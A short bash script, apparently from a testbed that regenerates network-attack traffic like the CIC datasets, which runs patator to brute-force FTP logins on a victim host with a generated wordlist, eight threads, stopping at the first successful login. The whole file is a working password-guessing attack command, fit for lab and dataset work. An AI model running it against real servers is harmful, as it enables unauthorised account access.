#!/usr/bin/env bash
# FTP password guessing with patator (as CIC did): one connection per attempt, stops at the first success.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
wordlist="$TB_STATE/ftp-wordlist.txt"
tb_wordlist "$wordlist" "$TB_COUNT"
tb_run "$TB_NS" patator ftp_login host="$TB_VICTIM" user="$TB_USER" password=FILE0 0="$wordlist" \
  persistent=0 --threads=8 --max-retries=0 --timeout=10 -x ignore:mesg='Login incorrect.' \
  -x quit:code=230 > "$TB_STATE/patator-ftp.log" 2>&1 < <(sleep "$TB_SECONDS")  # patator spins on a closed stdin
